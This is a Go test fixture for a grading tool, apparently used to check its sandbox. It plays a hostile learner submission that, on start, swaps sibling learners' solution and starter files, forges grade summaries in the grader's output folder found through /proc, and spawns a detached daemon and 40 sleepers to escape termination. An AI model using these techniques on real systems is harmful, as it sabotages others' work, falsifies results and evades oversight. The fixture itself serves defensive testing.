//go:build labcheck

package main

// The hostile submission of issue 13's `lab grade` attack (item 5), run as one learner of a
// class next to honest siblings. When its test binary starts it:
//   - sabotages its siblings through relative paths: the one that holds the reference solution
//     gets the starter, the one that holds the starter gets the solution;
//   - looks for `lab grade --out DIR` in /proc/*/cmdline (relative to /proc/PID/cwd) and writes
//     a forged summary.csv, summary.json and JUnit file there, plus a file of its own;
//   - leaves a daemon in a session of its own (setsid) that forges the summary again every 50 ms
//     for 90 s, so also after `lab grade` has written it and exited, and 40 more sleeping
//     processes.
// Without a sandbox all of it works. In one, the submission is the only folder it sees, /proc
// shows only its own PID namespace, and every process ends with the check.
//
// So that running lab's own tests never touches a real grade on the same machine, it writes
// only into --out folders whose name starts with "out-lab-grade-test".

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

const role = "LAB_HOSTILE_GRADE_ROLE"

func init() {
	switch os.Getenv(role) {
	case "daemon":
		// --out is on lab's command line only while lab runs: remember it for afterwards.
		seen := map[string]bool{}
		for end := time.Now().Add(90 * time.Second); time.Now().Before(end); {
			for _, out := range outDirs() {
				seen[out] = true
			}
			for out := range seen {
				forge(out)
			}
			time.Sleep(50 * time.Millisecond)
		}
		os.Exit(0)
	case "sleeper":
		time.Sleep(5 * time.Minute)
		os.Exit(0)
	}
	attack()
	spawn("daemon", "lab-hostile-grade-daemon")
	for range 40 {
		spawn("sleeper", "lab-hostile-grade-sleeper")
	}
}

// spawn starts this very binary again (no shell needed: a sandbox image may have none), in a
// session of its own so that neither the process group kill nor the parent's death reaches it.
func spawn(what, tag string) {
	cmd := exec.Command("/proc/self/exe", tag)
	cmd.Env = append(os.Environ(), role+"="+what)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	cmd.Start()
}

func attack() {
	sabotageSiblings()
	for _, out := range outDirs() {
		forge(out)
	}
}

// sabotageSiblings swaps the grades of the siblings: the folder is <sub>/lab-work/<lab>.
func sabotageSiblings() {
	wd := mustWd()
	files, _ := filepath.Glob(filepath.Join("..", "..", "..", "*", "lab-work", filepath.Base(wd), "main.go"))
	var solution, starter []byte
	var solved, started []string
	for _, f := range files {
		if abs, _ := filepath.Abs(filepath.Dir(f)); abs == wd {
			continue // itself
		}
		data, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		switch {
		case strings.Contains(string(data), "return a + b"):
			solution, solved = data, append(solved, f)
		case strings.Contains(string(data), "TODO(add)"):
			starter, started = data, append(started, f)
		}
	}
	if solution == nil || starter == nil {
		return
	}
	for _, f := range solved {
		os.WriteFile(f, starter, 0o644)
	}
	for _, f := range started {
		os.WriteFile(f, solution, 0o644)
	}
}

// outDirs finds `--out DIR` / `--out=DIR` on the command line of every visible process.
func outDirs() []string {
	var dirs []string
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range pids {
		data, err := os.ReadFile(p + "/cmdline")
		if err != nil {
			continue
		}
		args := strings.Split(string(data), "\x00")
		for i, a := range args {
			dir := ""
			if a == "--out" && i+1 < len(args) {
				dir = args[i+1]
			} else if v, ok := strings.CutPrefix(a, "--out="); ok {
				dir = v
			}
			if dir == "" || !strings.HasPrefix(filepath.Base(dir), "out-lab-grade-test") {
				continue
			}
			if !filepath.IsAbs(dir) {
				cwd, err := os.Readlink(p + "/cwd")
				if err != nil {
					continue
				}
				dir = filepath.Join(cwd, dir)
			}
			dirs = append(dirs, dir)
		}
	}
	return dirs
}

func forge(out string) {
	os.MkdirAll(filepath.Join(out, "junit"), 0o755)
	os.WriteFile(filepath.Join(out, "summary.csv"), []byte("learner,lab,task,status\na-hostile,01-tiny,add,pass\n"), 0o644)
	os.WriteFile(filepath.Join(out, "summary.json"), []byte(`{"forged": true}`+"\n"), 0o644)
	os.WriteFile(filepath.Join(out, "junit", "a-hostile.xml"), []byte("<testsuites/>\n"), 0o644)
	os.WriteFile(filepath.Join(out, "hostile-was-here"), nil, 0o644)
}

func mustWd() string {
	wd, _ := os.Getwd()
	return wd
}
